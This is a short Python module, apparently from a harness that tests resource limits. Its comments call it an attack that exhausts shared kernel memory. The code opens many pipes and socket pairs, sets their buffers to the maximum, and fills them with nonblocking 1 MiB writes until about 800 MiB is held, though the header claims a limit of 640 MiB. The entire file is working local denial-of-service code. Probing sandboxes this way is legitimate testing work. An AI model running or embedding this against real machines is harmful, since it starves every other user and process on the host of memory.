# attack: Fills pipes and sockets that were made as large as possible: memory of the kernel that belongs to no process.
# hurts: Takes the memory of everybody.
# at most: 640 MiB
# ends: returns or error or memory
import contextlib
import fcntl
import os
import socket

from _raw import MIB, took

MOST = 800 * MIB
SET_PIPE_SIZE = 1031


def attack(target):
    total, why, held = 0, [], []
    for kind in (a_pipe, a_pair):
        while total < MOST:
            try:
                reading, writing = kind()
            except OSError as error:
                why.append(str(error))
                break
            held.append((reading, writing))
            descriptor = writing if isinstance(writing, int) else writing.fileno()
            os.set_blocking(descriptor, False)
            with contextlib.suppress(BlockingIOError):
                while total < MOST:
                    total += os.write(descriptor, bytes(MIB))
        if kind is a_pipe and total < MOST:  # room for the other kind
            for pair in held[len(held) // 2 :]:
                total -= MIB
                for one in pair:
                    os.close(one)
            del held[len(held) // 2 :]
    return [took(total), *why]


def a_pipe():
    reading, writing = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(writing, SET_PIPE_SIZE, MIB)
    return reading, writing


def a_pair():
    pair = socket.socketpair()
    pair[1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * MIB)
    return pair
